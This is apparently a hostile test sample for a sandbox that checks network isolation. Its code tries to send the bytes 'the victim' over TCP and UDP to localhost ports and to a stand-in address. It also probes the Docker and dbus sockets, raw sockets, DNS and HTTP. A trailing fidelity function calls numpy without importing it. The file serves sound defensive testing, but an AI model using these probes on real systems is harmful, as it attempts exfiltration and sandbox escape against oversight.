# /// zoo
# about = "Tries to send what it knows away: TCP, UDP, names, raw and abstract sockets"
# kind = "hostile"
# [expect]
# fidelity_test = 1
# total = 1
# stopped = ""
# never = ["ESCAPED"]
# ///

# %% collect
import os
import socket
import urllib.request


def call(kind, place, family=socket.AF_INET):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1)
            line.connect(place)
            line.send(b"the victim")
        print("ESC" "APED: reached", place)
    except OSError:
        pass


for port in (22, 53, 80, 443, 5432, 8080, 8888):
    call(socket.SOCK_STREAM, ("127.0.0.1", port))
call(socket.SOCK_STREAM, ("192.0.2.1", 80))
call(socket.SOCK_DGRAM, ("192.0.2.1", 53))
call(socket.SOCK_STREAM, ("::1", 80), socket.AF_INET6)
for name in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "\0/tmp/.X11-unix/X0"):
    call(socket.SOCK_STREAM, name, socket.AF_UNIX)
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, 1)):
    try:
        socket.socket(family, kind).close()
        print("ESC" "APED: has a socket of the family", family)
    except OSError:
        pass
try:
    print("ESC" "APED: resolved", socket.getaddrinfo("example.invalid.", 80))
except OSError:
    pass
try:
    urllib.request.urlopen("http://192.0.2.1/", timeout=1)
    print("ESC" "APED: read a page")
except OSError:
    pass
if [name for name in os.listdir("/sys/class/net") if name != "lo"] if os.path.exists("/sys/class/net") else []:
    print("ESC" "APED: has a network card")

# %% fidelity
def fidelity(clone, victim, x):
    return float(np.mean(clone(x).argmax(axis=1) == victim(x).argmax(axis=1)))

